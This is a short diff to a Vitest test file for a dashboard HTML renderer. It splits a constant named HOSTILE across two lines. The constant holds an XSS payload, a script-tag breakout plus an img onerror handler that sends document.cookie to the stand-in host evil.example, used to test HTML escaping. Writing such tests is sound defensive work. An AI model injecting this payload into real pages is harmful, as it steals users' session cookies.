@@ -5,7 +5,9 @@ import { describe, expect, it } from 'vitest';
 import type { DashboardModel } from './dashboard-model.ts';
 import { escapeHtml, renderDashboardHtml } from './dashboard-html.ts';
 
-const HOSTILE = `</script><script>alert(1)</script><img src=x onerror="fetch('https://evil.example/'+document.cookie)"> ' " \` &amp; \u2028`;
+const HOSTILE =
+  `</script><script>alert(1)</script><img src=x ` +
+  `onerror="fetch('https://evil.example/'+document.cookie)"> ' " \` &amp; \u2028`;
 
 function model(text: string): DashboardModel {
   return {
